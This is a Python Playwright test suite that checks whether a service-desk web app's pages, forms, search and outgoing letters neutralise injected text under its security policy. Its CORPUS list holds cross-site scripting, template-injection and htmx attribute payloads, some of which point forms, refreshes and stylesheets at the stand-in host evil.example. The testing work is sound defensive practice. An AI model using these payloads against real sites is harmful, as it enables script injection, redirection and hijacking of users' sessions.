"""Texts that want to be more than texts, in every field and on every page, in a real browser under the real policy (process.md S1, S22)."""

from collections.abc import Iterator, Mapping
from datetime import UTC, datetime
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page
from sqlalchemy import update

from activities.access.accounts import Purpose, make_link
from activities.database.tables import groups, people
from activities.mail.mail_room import MailRoom
from emails.links import SURVEY
from tests.api.asked import survey_is_out
from tests.api.house import RunningDesk, running_desk

# Each would say so if it ran: by a dialog, or by a name in the window.
CORPUS = (
    "<script>owned=1;alert(1)</script>",
    "<img src=x onerror=owned=1,alert(1)>",
    "'\"><svg/onload=owned=1,alert(1)>",
    "</textarea></title></style></script><script>owned=1;alert(1)</script>",
    '" autofocus onfocus="owned=1;alert(1)" x="',
    "' onmouseover='owned=1;alert(1)' style='position:fixed;inset:0",
    "javascript:owned=1;alert(1)",
    'https://example.org/" onclick="owned=1;alert(1)',
    "<a href='javascript:owned=1;alert(1)'>press me</a>",
    "<iframe srcdoc='<script>parent.owned=1;alert(1)</script>'></iframe>",
    "<form action=https://evil.example><button>Send</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned=1,alert(1)>",
    "<details open ontoggle=owned=1,alert(1)><summary>x</summary></details>",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "\u202e<script>owned=1</script>\u2066",
    "--><!--><script>owned=1;alert(1)</script>",
    "data: x\n\nevent: y\nid: z<script>owned=1</script>",
    "<div hx-get=https://evil.example hx-trigger=load hx-on::load=owned=1 sse-connect=//evil.example>x</div>",
    '" hx-get="/sign-out" hx-trigger="load" hx-on:click="owned=1" data-hx-vals="js:{a:owned=1}" x="',
)
_WATCH = """
document.addEventListener('securitypolicyviolation', event => { window.complaints = (window.complaints || 0) + 1; window.about = event.blockedURI + ' ' + event.violatedDirective; });
"""


def _line(payload: str) -> str:
    return " ".join(payload.split())


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningDesk]:
    """A desk of its own, where people and groups have such names, too."""
    with running_desk(tmp_path_factory.mktemp("desk")) as running:
        running.run(_rename(running))
        yield running


async def _rename(desk: RunningDesk) -> None:
    async with desk.engine.begin() as connection:
        for person, payload in zip(("carla", "asha", "noah", "ines"), (CORPUS[1], CORPUS[2], CORPUS[4], CORPUS[10]), strict=True):
            await connection.execute(update(people).where(people.c.id == person).values(name=payload))
        for group, payload in zip(("network", "service-desk"), (CORPUS[0], CORPUS[5]), strict=True):
            await connection.execute(update(groups).where(groups.c.id == group).values(name=payload))


@pytest.fixture(scope="module")
def numbers(desk: RunningDesk) -> Mapping[str, str]:
    """Incidents by their titles: one for each payload as title; the first ones have all payloads in every text, told in every way."""
    found = {}
    for each in CORPUS:
        line, text = _line(each), "\n".join(CORPUS)
        fields = {
            "contact": line,
            "reference": line,
            "work_stopped": line,
            "people_affected": line,
            "can_wait": line,
            "configuration_item": line,
        }
        found[each] = desk.report(title=line, description=text, symptoms=text, category="network", impact=1, urgency=1, **fields)
    everything = "\n".join(CORPUS)
    for number in list(found.values())[:2]:
        for command, by, said in (
            ("escalate", "noah", {"diagnosis": everything, "group": "applications"}),
            ("take", "noah", {}),
            ("note", "noah", {"text": everything}),
            ("message", "noah", {"text": everything}),
            ("message", "carla", {"text": everything}),
            ("override_priority", "ines", {"priority": "P1", "reason": everything}),
            ("hold", "noah", {"reason": "caller", "question": everything}),
            ("resume", "noah", {}),
            ("assign", "noah", {"group": "applications"}),
            ("assign", "noah", {"group": "network", "person": "noah"}),
            ("resolve", "noah", {"code": "fixed", "notes": everything}),
        ):
            answer = desk.tell(number, command, by, **said)
            assert answer.status_code == 200, (command, answer.text)
    room = MailRoom(desk.engine, desk.settings, desk.client)
    while desk.run(room.send_next()):
        pass
    return found


class Watched:
    """A page that notes whatever a text brings about: dialogs, complaints of the policy, requests to elsewhere, names in the window."""

    def __init__(self, browser: Browser, desk: RunningDesk, person: str | None, **more: Any) -> None:
        self.desk = desk
        context = browser.new_context(**more)
        context.add_init_script(_WATCH)
        self.page: Page = context.new_page()
        self.happened: list[str] = []
        self.page.on("dialog", lambda dialog: (self.happened.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("request", lambda request: self._note(request.url))
        if person:
            self.page.goto(f"{desk.base_url}/sign-in/link/{desk.run(make_link(desk.engine, person, Purpose.SIGN_IN, datetime.now(UTC)))}")
            self.look("the link")
            self.page.get_by_role("checkbox").check()
            self.page.get_by_role("button", name="Sign in").click()

    def open(self, path: str) -> None:
        """Opens it, opens what is folded there, and moves over everything."""
        answer = self.page.goto(self.desk.base_url + path)
        assert answer is not None
        assert answer.status < 500, path
        self.page.evaluate("document.querySelectorAll('details').forEach(each => { each.removeAttribute('name'); each.open = true; })")
        for each in self.page.locator("main :is(a, input:not([type=hidden]), textarea, button)").all()[:10]:
            if each.is_visible():
                each.hover(force=True)
        self.look(path)

    def _note(self, url: str) -> None:
        if not url.startswith((self.desk.base_url, "about:", "data:")):
            self.happened.append(f"request {url}")

    def look(self, where: str) -> None:
        """Nothing has happened, and nothing stands on the page that waits to happen."""
        page = self.page
        assert self.happened == [], where
        assert page.evaluate("[window.owned, window.complaints, window.about]") == [None, None, None], where
        assert (
            page.locator(
                "main script, main img, main iframe:not(.letter), main base, main meta, main form[action^=http], main math"
            ).count()
            == 0
        ), where
        assert (
            page.evaluate("[...document.links].map(each => each.protocol).filter(each => !['http:', 'https:', 'mailto:'].includes(each))")
            == []
        ), where
        assert (
            page.evaluate(
                "[...document.querySelectorAll('main *')].flatMap(each => each.getAttributeNames()).filter(each => /^(on|(data-)?hx-(on|vals|headers|vars)|data-hx)/.test(each))"
            )
            == []
        ), where

    def leave(self) -> None:
        """Closes it."""
        self.page.context.close()


def test_portal(browser: Browser, desk: RunningDesk, numbers: Mapping[str, str]) -> None:
    """What callers see of their own incidents, and forms that come back with what was typed."""
    watched = Watched(browser, desk, "carla")
    for path in ("/portal", "/portal/report", "/account", *(f"/portal/incidents/{number}" for number in list(numbers.values())[:4])):
        watched.open(path)
    watched.open(f"/portal/reported/{next(iter(numbers.values()))}")
    for number in list(numbers.values())[-3:]:
        assert desk.tell(number, "acknowledge", "noah").status_code == 200
    watched.open("/portal/report")
    watched.page.locator("#topic").select_option("network")
    watched.page.locator("#known li").nth(2).wait_for()
    watched.look("what is known already, as htmx puts it there")
    for payload in CORPUS[:6]:
        watched.open("/portal/report")
        watched.page.locator("[name=description]").fill(payload)
        watched.page.locator("main form button[type=submit]").first.click()
        watched.look(f"report with {payload}")
        assert watched.page.locator("[name=description]").input_value() == payload
    watched.leave()


def test_console(browser: Browser, desk: RunningDesk, numbers: Mapping[str, str]) -> None:
    """Queues, search, incidents with everything said about them, and the words that were searched for."""
    watched = Watched(browser, desk, "noah")
    for path in ("/console?queue=all", "/console?q=alert", "/console?queue=mine", "/account", "/plan"):
        watched.open(path)
    for payload in CORPUS[::2]:
        watched.open(f"/console?q={_quoted(payload)}&group={_quoted(payload)}&status={_quoted(payload)}")
    for number in list(numbers.values())[:4]:
        watched.open(f"/console/{number}")
    for payload in CORPUS[:3]:
        watched.open("/console/report")
        for name in ("who", "description"):
            watched.page.locator(f"[name={name}]").fill(payload)
        watched.page.locator("main form button[type=submit]").first.click()
        watched.look(f"report for somebody with {payload}")
        assert watched.page.locator("[name=description]").input_value() == payload
    watched.leave()


def test_situation_and_figures(browser: Browser, desk: RunningDesk, numbers: Mapping[str, str]) -> None:
    """Names of people and groups, titles, and what was asked for."""
    watched = Watched(browser, desk, "ines")
    for path in ("/situation", "/figures", "/figures?by=group", "/figures?by=category"):
        watched.open(path)
    for payload in CORPUS[:8]:
        watched.open(f"/figures?group={_quoted(payload)}&by={_quoted(payload)}&from={_quoted(payload)}")
    watched.leave()


def test_outbox(browser: Browser, desk: RunningDesk, numbers: Mapping[str, str]) -> None:
    """Letters as text, as HTML in their frame, and their headers."""
    watched = Watched(browser, desk, None, http_credentials={"username": "x", "password": desk.keys["adam"]})
    number = next(iter(numbers.values()))
    watched.open(f"/outbox?number={number}&person={_quoted(CORPUS[0])}")
    watched.open(f"/outbox?number={number}")
    keys = watched.page.evaluate("[...document.querySelectorAll('.letters a')].map(each => each.getAttribute('href'))")
    assert len(keys) > 3
    for path in keys:
        watched.open(path)
        frame = watched.page.frame_locator("iframe.letter")
        assert frame.locator("script, img, svg, iframe, form, math, meta[http-equiv]").count() == 0
    watched.leave()


def test_pages_behind_links(browser: Browser, desk: RunningDesk, numbers: Mapping[str, str]) -> None:
    """The question, its answer that comes back, the survey with its comment, and what the sign-in page repeats."""
    watched = Watched(browser, desk, None)
    number = next(iter(numbers.values()))
    watched.open(desk.link(number))
    watched.page.locator("textarea").fill(CORPUS[3])
    watched.page.locator("form [type=submit]").click()
    watched.look("an answer without a choice")
    assert watched.page.locator("textarea").input_value() == CORPUS[3]
    watched.open(desk.link(survey_is_out(desk), purpose=SURVEY) + "?score=1")
    watched.page.locator("textarea").fill(CORPUS[3])
    watched.page.locator("form [type=submit]").click()
    watched.look("a survey without a yes")
    watched.page.locator("input[value=counts]").check()
    watched.page.locator("form [type=submit]").click()
    watched.look("a survey that was answered")
    for payload in CORPUS[::4]:
        watched.open(f"/sign-in?next={_quoted(payload)}&out=yes&way={_quoted(payload)}")
        watched.page.locator("[name=name]").fill(payload)
        watched.page.get_by_role("button", name="Sign in").click()
        watched.look(f"signing in as {payload}")
    watched.leave()


def test_the_watch_would_notice(browser: Browser, desk: RunningDesk) -> None:
    """A text that did get through would be seen: a dialog, an inline script that the policy stops, a request to elsewhere."""
    watched = Watched(browser, desk, None)
    watched.page.goto(desk.base_url)
    watched.page.evaluate("alert(1)")
    watched.page.evaluate("document.querySelector('main').innerHTML = '<img src=https://evil.example/x onerror=alert(1)>'")
    watched.page.wait_for_function("window.complaints >= 1")
    assert watched.happened == ["dialog 1", "request https://evil.example/x"]
    with pytest.raises(AssertionError):
        watched.look("here")
    watched.leave()


def _quoted(payload: str) -> str:
    return quote(payload, safe="")
